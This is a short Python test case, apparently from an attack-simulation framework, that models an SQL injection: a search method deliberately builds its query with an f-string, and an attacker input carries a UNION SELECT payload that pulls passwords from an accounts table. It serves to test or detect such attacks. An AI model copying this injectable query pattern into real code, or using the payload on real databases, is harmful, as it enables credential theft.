"""F1: an injected UNION reads passwords out of another table."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.sqlite import LOOT, SQLiteApp


class UnionInjected(SQLiteApp):
    """A page writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads a table of passwords through a UNION that a search field let in"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    rule = "query-attack"

    def work(self) -> None:
        """Search for ordinary names."""
        for name in ("customer 1", "customer 2"):
            self._search(name)

    def meet(self) -> object:
        """Search for what the attacker typed."""
        return self._search("nobody' UNION SELECT id, name, password FROM accounts -- ")

    def _search(self, name: str) -> list[list[str]]:
        statement = f"SELECT id, name, mail FROM customers WHERE name = '{name}' ORDER BY id"  # the injection hole
        return [[str(value) for value in row] for row in self.connection.execute(statement)]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether a password hash came back."""
        del service
        return LOOT in str(got)
